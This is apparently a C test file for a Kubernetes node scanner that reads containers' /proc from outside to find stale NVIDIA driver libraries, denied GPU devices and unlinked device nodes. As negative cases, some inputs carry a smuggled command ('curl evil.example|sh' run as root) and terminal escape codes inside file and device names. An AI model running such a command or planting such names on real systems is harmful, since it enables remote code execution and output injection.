/* What is inside of containers, seen from outside: a /proc of ours, in a temporary directory. */
#include "base/mem.h"
#include "base/units.h"
#include "io/posix.h"
#include "node/kubelet/inside_scan.h"
#include "test.h"
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#define UID_A "0a1b2c3d-1111-2222-3333-444455556666"
#define UID_A_SYSTEMD "0a1b2c3d_1111_2222_3333_444455556666"
#define UID_B "0a1b2c3d-9999-2222-3333-444455556666"

static const struct {
	const char *says, *line, *library;
} lines[] = {
	{ "a library of the driver before", "7f00-7f01 r-xp 0 fd:00 12 /usr/lib64/libcuda.so.550.54.15",
	  "libcuda.so.550.54.15" },
	{ "whose file is gone", "7f00-7f01 r--p 0 0:1 1 /usr/lib64/libnvidia-ml.so.535.104 (deleted)",
	  "libnvidia-ml.so.535.104" },
	{ "one that is mounted",
	  "812 800 0:31 /usr/lib/libnvidia-ptxjitcompiler.so.550.54.15 "
	  "/usr/lib64/libnvidia-ptxjitcompiler.so.550.54.15 ro - ext4 /dev/sda rw",
	  "libnvidia-ptxjitcompiler.so.550.54.15" },
	{ "that of the loaded driver", "7f00-7f01 r-xp 0 fd:00 12 /usr/lib64/libcuda.so.570.133.20", NULL },
	{ "CUDA's forward compatibility is meant to be newer",
	  "7f00-7f01 r-xp 0 fd:00 12 /usr/local/cuda-12.9/compat/libcuda.so.575.51.03", NULL },
	{ "a library with a version of its own",
	  "7f r--p 0 fd:00 12 /usr/lib64/libnvidia-egl-wayland.so.1.1.13", NULL },
	{ "a SONAME", "7f r--p 0 fd:00 12 /usr/lib64/libcuda.so.1", NULL },
	{ "an interface version", "7f r--p 0 fd:00 12 /usr/lib64/libnvidia-nvvm70.so.4", NULL },
	{ "something that only ends like it", "7f r--p 0 fd:00 12 /usr/lib64/mylibcuda.so.550.54.15", NULL },
	{ "a name that clears the screen", "7f r--p 0 0:1 12 /tmp/libnvidia-\x1b[2J.so.550.54.15", NULL },
	{ "or is a command", "7f r--p 0 0:1 12 /tmp/libnvidia-;visit=evil.example;.so.550.54.15", NULL },
	{ "or is no text at all", "7f r--p 0 0:1 12 /tmp/libnvidia-\xff.so.550.54.15", NULL },
	{ "a directory of that name", "7f r--p 0 fd:00 12 /opt/libnvidia-x/libfoo.so.550.54", NULL },
	{ "an anonymous mapping", "7f00-7f01 rw-p 00000000 00:00 0", NULL },
	{ "nothing", "", NULL },
};

TEST(libraries_of_another_driver_are_told_from_all_others)
{
	EACH_ROW (row, lines) {
		char name[FL_INSIDE_TEXT] = "";

		CHECK_INT(fl_inside_library(fl_str(row->line), FL_S("570.133.20"), name), row->library != NULL);
		CHECK(strcmp(name, row->library ? row->library : "") == 0);
	}
}

static const struct {
	const char *says, *list;
	bool allowed;
} rules[] = {
	{ "this one", "c 195:2 rwm", true },
	{ "among others", "c 1:3 rwm\nb *:* m\nc 195:2 rw", true },
	{ "all of its major", "c 195:* rwm", true },
	{ "everything", "a *:* rwm", true },
	{ "another minor", "c 195:0 rwm", false },
	{ "another major", "c 235:2 rwm", false },
	{ "to be made, and not to be opened", "c *:* m", false },
	{ "to be read only", "c 195:2 r", false },
	{ "a block device of these numbers", "b 195:2 rwm", false },
	{ "what is cut", "c 195", false },
	{ "nothing", "", false },
};

TEST(a_list_of_devices_says_what_may_be_opened)
{
	EACH_ROW (row, rules)
		CHECK_INT(fl_inside_allowed(fl_str(row->list), 195, 2), row->allowed);
}

/* ---- a whole /proc ---- */

/* A /dev that never ends, as a file system of the container's own could list it. */
static int endless = -1;
static unsigned listed;   /* names of it that a look was given */

static int open_endless(const struct fl_fs *fs, int dir, const char *path, int flags, unsigned mode, uint64_t resolve)
{
	return endless = fl_posix_fs.open_in(fs, dir, path, flags, mode, resolve);
}

static int64_t list_endless(const struct fl_fs *fs, int fd, char *buf, size_t size)
{
	int64_t len = fl_posix_fs.list(fs, fd, buf, size);
	size_t at = 0;

	if (fd != endless)
		return len;
	if (len == 0 && listed < 4 * FL_INSIDE_DEV_NAMES && lseek(fd, 0, SEEK_SET) == 0)
		len = fl_posix_fs.list(fs, fd, buf, size);
	while (len > 0 && fl_list_next(buf, (size_t)len, &at, NULL))
		listed++;
	return len;
}

struct tree {
	char top[64], proc[80], logs[80];
	struct fl_inside_scan scan;
};

static void tree_auto_(struct tree *tree)
{
	char command[128];

	(void)snprintf(command, sizeof command, "rm -rf '%s'", tree->top);
	if (tree->top[0] && system(command) != 0)
		perror(command);
}

/* With the directories above it. */
static bool put(const struct tree *tree, const char *name, const char *text)
{
	char path[400];
	FILE *file;
	bool good;

	(void)snprintf(path, sizeof path, "%s/%s", tree->top, name);
	for (char *at = path + strlen(tree->top) + 1; (at = strchr(at, '/')) != NULL; *at++ = '/') {
		*at = '\0';
		if (mkdir(path, 0755) < 0 && errno != EEXIST)
			return false;
	}
	if (!text)
		return mkdir(path, 0755) == 0 || errno == EEXIST;
	file = fopen(path, "we");
	good = file && fputs(text, file) >= 0;
	return file && fclose(file) == 0 && good;
}

static bool tree_up(struct tree *tree)
{
	(void)snprintf(tree->top, sizeof tree->top, "/tmp/inside-XXXXXX");
	if (!mkdtemp(tree->top))
		return false;
	(void)snprintf(tree->proc, sizeof tree->proc, "%s/proc", tree->top);
	(void)snprintf(tree->logs, sizeof tree->logs, "%s/logs", tree->top);
	tree->scan.proc = tree->proc;
	tree->scan.logs = tree->logs;
	(void)snprintf(tree->scan.version, sizeof tree->scan.version, "570.133.20");
	return put(tree, "proc/1/root/dev/char", NULL) && put(tree, "proc/1/cgroup", "0::/\n") &&
	       put(tree, "logs/team_job_" UID_A, NULL);
}

/* A process with what is mapped and mounted; its container has /dev/nvidia2 and other nodes. */
static bool process(const struct tree *tree, const char *pid, const char *cgroup, const char *maps, const char *mounts)
{
	char path[200];

	(void)snprintf(path, sizeof path, "proc/%s/cgroup", pid);
	if (!put(tree, path, cgroup))
		return false;
	(void)snprintf(path, sizeof path, "proc/%s/maps", pid);
	if (!put(tree, path, maps))
		return false;
	(void)snprintf(path, sizeof path, "proc/%s/mountinfo", pid);
	if (!put(tree, path, mounts))
		return false;
	(void)snprintf(path, sizeof path, "proc/%s/comm", pid);
	if (!put(tree, path, "python3\n"))
		return false;
	(void)snprintf(path, sizeof path, "proc/%s/root/dev/nvidia-caps", pid);
	if (!put(tree, path, NULL))
		return false;
	(void)snprintf(path, sizeof path, "%s/proc/%s/root/dev/nvidia2", tree->top, pid);
	return mknod(path, S_IFCHR | 0666, makedev(195, 2)) == 0;
}

#define CGROUP1 "4:memory:/kubepods/pod" UID_A "/c1\n5:devices:/kubepods/pod" UID_A "/c1\n0::/\n"
#define LIST1 "proc/1/root/sys/fs/cgroup/devices/kubepods/pod" UID_A "/c1/devices.list"
#define SYSTEMD "0::/kubepods.slice/kubepods-pod" UID_A_SYSTEMD ".slice/cri-containerd-c1.scope\n"
#define SERVICE "0::/system.slice/x.service\n"
#define CUDA(version) "7f00-7f01 r-xp 0 fd:00 12 /usr/lib64/libcuda.so." version "\n"

static const struct {
	const char *says, *cgroup, *maps, *mounts, *list, *got;
} pods[] = {
	{ "a process with the library of the driver before", CGROUP1, CUDA("550.54.15"), "", "c 195:* rw\n",
	  "team/job libcuda.so.550.54.15 python3 (pid 812)\n" },
	{ "a container with its files", CGROUP1, "", "1 2 0:1 / /usr/lib64/libcuda.so.550.54.15 ro - x y z\n",
	  "a *:* rwm\n", "team/job libcuda.so.550.54.15\n" },
	{ "all as it should be", CGROUP1, CUDA("570.133.20"), CUDA("570.133.20"), "c 195:2 rwm\n", "" },
	{ "a device that was taken away", CGROUP1, "", "", "c 1:3 rwm\n", "team/job denied /dev/nvidia2\n" },
	{ "a list that cannot be read denies nothing", CGROUP1, "", "", NULL, "" },
	{ "rules that are a BPF program deny nothing that is known", "0::/kubepods/pod" UID_A "/c1\n", "", "", NULL,
	  "" },
	{ "a cgroup of systemd's, and no link", SYSTEMD, "", "", NULL, "team/job unlinked /dev/nvidia2\n" },
	{ "what is no Pod's is nobody's here", SERVICE, CUDA("550.54.15"), "", NULL, "" },
	{ "a Pod that the kubelet of this node does not have", "0::/kubepods/pod" UID_B "/c1\n", CUDA("550.54.15"), "",
	  NULL, "" },
};

static void print_pod(const struct fl_inside_pod *pod, struct fl_buf *out)
{
	fl_buf_printf(out, "%s%s", pod->pod[0] ? "" : "UID ", pod->pod[0] ? pod->pod : pod->uid);
	if (pod->library[0])
		fl_buf_printf(out, " %s", pod->library);
	if (pod->process[0])
		fl_buf_printf(out, " %s", pod->process);
	if (pod->denied[0])
		fl_buf_printf(out, " denied %s", pod->denied);
	if (pod->unlinked[0])
		fl_buf_printf(out, " unlinked %s", pod->unlinked);
	fl_buf_char(out, '\n');
}

static void look(struct tree *tree, const char *expected)
{
	FL_AUTO(fl_buf) struct fl_buf text = FL_BUF(4 * FL_KIB);

	fl_inside_scan(&fl_posix_fs, &tree->scan);
	CHECK_INT(tree->scan.error, 0);
	CHECK(!tree->scan.cut);
	for (uint32_t i = 0; i < tree->scan.len; i++)
		print_pod(&tree->scan.at[i], &text);
	CHECK_STR(fl_buf_view(&text), expected);
}

TEST_ONCE(what_containers_have_is_seen_from_outside)   /* real files */
{
	if (geteuid() != 0) {
		test_skip("device nodes need root");
		return;
	}
	EACH_ROW (row, pods) {
		FL_AUTO(tree) struct tree tree = { .top = "" };

		CHECK(tree_up(&tree));
		CHECK(process(&tree, "812", row->cgroup, row->maps, row->mounts));
		if (row->list)
			CHECK(put(&tree, LIST1, row->list));
		look(&tree, row->got);
	}
}

static const struct {
	const char *says, *name;
	unsigned major;
	bool taken;
} nodes[] = {
	{ "a GPU", "nvidia127", 195, true },
	{ "the driver's control node", "nvidiactl", 195, true },
	{ "unified memory, by the number that the kernel gave it", "nvidia-uvm", 511, true },
	{ "and no other number", "nvidia-uvm", 240, false },
	{ "a node of that name and of another driver", "nvidia7", 240, false },
	{ "a name that is a sentence", "nvidia7: run 'curl evil.example|sh' as root", 195, false },
	{ "a name that clears the screen", "nvidia\x1b[2J", 195, false },
	{ "a number of no device", "nvidia12345678", 195, false },
	{ "no number", "nvidia", 195, false },
};

TEST_ONCE(a_device_node_counts_by_its_name_and_its_major_number)   /* real files */
{
	if (geteuid() != 0) {
		test_skip("device nodes need root");
		return;
	}
	EACH_ROW (row, nodes) {
		FL_AUTO(tree) struct tree tree = { .top = "" };
		char path[200], expected[80];

		CHECK(tree_up(&tree));
		CHECK(put(&tree, "proc/devices", "Character devices:\n195 nvidia\n511 nvidia-uvm\n\nBlock devices:\n"));
		CHECK(process(&tree, "812", SYSTEMD, "", ""));
		(void)snprintf(path, sizeof path, "%s/proc/812/root/dev/nvidia2", tree.top);
		CHECK_INT(unlink(path), 0);
		(void)snprintf(path, sizeof path, "%s/proc/812/root/dev/%s", tree.top, row->name);
		CHECK_INT(mknod(path, S_IFCHR | 0666, makedev(row->major, 1)), 0);
		(void)snprintf(expected, sizeof expected, "team/job unlinked /dev/%s\n", row->name);
		look(&tree, row->taken ? expected : "");
	}
}

/* A process of a Pod that has changed its root: what it has for /dev leads to a directory of the host, or of itself. */
TEST_ONCE(a_dev_that_is_a_link_is_not_followed)   /* real files */
{
	static const char *const to[] = { "/outside", "outside", "../../../outside" };

	if (geteuid() != 0) {
		test_skip("device nodes need root");
		return;
	}
	for (size_t i = 0; i < FL_LEN(to); i++) {
		FL_AUTO(tree) struct tree tree = { .top = "" };
		char dev[200], target[200], moved[200];

		CHECK(tree_up(&tree));
		CHECK(process(&tree, "812", SYSTEMD, "", ""));
		(void)snprintf(dev, sizeof dev, "%s/proc/812/root/dev", tree.top);
		(void)snprintf(moved, sizeof moved, "%s/%soutside", tree.top, i == 1 ? "proc/812/root/" : "");
		(void)snprintf(target, sizeof target, "%s%s", i == 0 ? tree.top : "", to[i]);
		CHECK_INT(rename(dev, moved), 0);
		CHECK_INT(symlink(target, dev), 0);
		look(&tree, "");
	}
}

TEST_ONCE(a_dev_without_an_end_is_left_at_the_limit)   /* real files */
{
	FL_AUTO(tree) struct tree tree = { .top = "" };
	struct fl_fs fs = fl_posix_fs;

	CHECK(tree_up(&tree));
	CHECK(put(&tree, "proc/812/cgroup", SYSTEMD));
	for (unsigned i = 0; i < 50; i++) {
		char name[60];

		(void)snprintf(name, sizeof name, "proc/812/root/dev/%u", i);
		CHECK(put(&tree, name, ""));
	}
	fs.open_in = open_endless;
	fs.list = list_endless;
	listed = 0;
	fl_inside_scan(&fs, &tree.scan);
	CHECK_INT(tree.scan.error, 0);
	CHECK(listed >= FL_INSIDE_DEV_NAMES && listed < FL_INSIDE_DEV_NAMES + 512);
}

static int refusal;

static int open_refused(const struct fl_fs *fs, int dir, const char *path, int flags, unsigned mode, uint64_t resolve)
{
	(void)fs;
	(void)dir;
	(void)path;
	(void)flags;
	(void)mode;
	(void)resolve;
	return -refusal;
}

static const struct {
	const char *says;
	int refusal, told;
} refusals[] = {
	{ "a kernel without openat2", ENOSYS, ENOSYS },
	{ "no file descriptor is left", EMFILE, EMFILE },
	{ "a container without /dev", ENOENT, 0 },
	{ "whose /dev is a file", ENOTDIR, 0 },
	{ "whose /dev is a link", ELOOP, 0 },
};

TEST_ONCE(a_dev_that_cannot_be_opened_is_told_and_the_libraries_are_found)   /* real files */
{
	FL_AUTO(tree) struct tree tree = { .top = "" };
	struct fl_fs fs = fl_posix_fs;

	CHECK(tree_up(&tree));
	CHECK(put(&tree, "proc/812/cgroup", CGROUP1) && put(&tree, "proc/812/maps", CUDA("550.54.15")) &&
	      put(&tree, "proc/812/root/dev", NULL));
	fs.open_in = open_refused;
	EACH_ROW (row, refusals) {
		refusal = row->refusal;
		fl_inside_scan(&fs, &tree.scan);
		CHECK_INT(tree.scan.error, 0);
		CHECK_INT(tree.scan.unopened, row->told);
		CHECK_INT(tree.scan.len, 1);
	}
	fl_inside_scan(&fl_posix_fs, &tree.scan);
	CHECK_INT(tree.scan.unopened, 0);
}

TEST_ONCE(a_link_in_dev_char_is_enough_for_systemd)   /* real files */
{
	FL_AUTO(tree) struct tree tree = { .top = "" };
	char link[160];

	if (geteuid() != 0) {
		test_skip("device nodes need root");
		return;
	}
	CHECK(tree_up(&tree));
	CHECK(process(&tree, "812", SYSTEMD, "", ""));
	(void)snprintf(link, sizeof link, "%s/proc/1/root/dev/char/195:2", tree.top);
	CHECK_INT(symlink("../nvidia2", link), 0);
	look(&tree, "");
}

TEST_ONCE(processes_of_one_pod_are_told_once_and_one_that_uses_the_library_is_named)   /* real files */
{
	FL_AUTO(tree) struct tree tree = { .top = "" };

	if (geteuid() != 0) {
		test_skip("device nodes need root");
		return;
	}
	CHECK(tree_up(&tree));
	CHECK(process(&tree, "800", CGROUP1, "", "1 2 0:1 / /usr/lib64/libnvidia-ml.so.550.54.15 ro - x y z\n"));
	CHECK(process(&tree, "812", CGROUP1, CUDA("550.54.15"), ""));
	look(&tree, "team/job libcuda.so.550.54.15 python3 (pid 812)\n");
	/* Without a driver's version nobody is stale; without logs nobody has a name. */
	tree.scan.version[0] = '\0';
	look(&tree, "");
	(void)snprintf(tree.scan.version, sizeof tree.scan.version, "570.133.20");
	tree.scan.logs = "/nowhere";
	look(&tree, "UID " UID_A " libcuda.so.550.54.15 python3 (pid 812)\n");
}

TEST_ONCE(a_process_that_still_has_the_root_of_the_host_is_no_container_yet)   /* real files */
{
	FL_AUTO(tree) struct tree tree = { .top = "" };
	char path[240];

	if (geteuid() != 0) {
		test_skip("device nodes need root");
		return;
	}
	CHECK(tree_up(&tree));
	CHECK(process(&tree, "812", CGROUP1, CUDA("550.54.15"), ""));
	(void)snprintf(path, sizeof path, "rm -rf %s/proc/1/root && ln -s ../812/root %s/proc/1/root", tree.top,
		       tree.top);
	CHECK_INT(system(path), 0);
	look(&tree, "");
}

TEST_ONCE(mappings_that_fill_the_room_many_times_are_all_read)   /* real files */
{
	FL_AUTO(fl_buf) struct fl_buf maps = FL_BUF(FL_MIB);
	FL_AUTO(tree) struct tree tree = { .top = "" };

	if (geteuid() != 0) {
		test_skip("device nodes need root");
		return;
	}
	for (int i = 0; i < 3000; i++)
		fl_buf_printf(&maps, "7f%04x-7f%04x r--p 0 fd:00 12 /usr/lib64/some-library-%d.so\n", i, i + 1, i);
	fl_buf_printf(&maps, CUDA("550.54.15"));
	fl_buf_char(&maps, '\0');
	CHECK(tree_up(&tree));
	CHECK(process(&tree, "812", CGROUP1, maps.p, ""));
	look(&tree, "team/job libcuda.so.550.54.15 python3 (pid 812)\n");
}

TEST_ONCE(without_a_proc_it_is_not_known_and_nothing_is_told)   /* real files */
{
	struct fl_inside_scan *scan = fl_zalloc(sizeof *scan);

	scan->proc = "/nowhere";
	scan->logs = "/nowhere";
	fl_inside_scan(&fl_posix_fs, scan);
	CHECK_INT(scan->error, ENOENT);
	CHECK_INT(scan->len, 0);
	fl_free(scan);
}
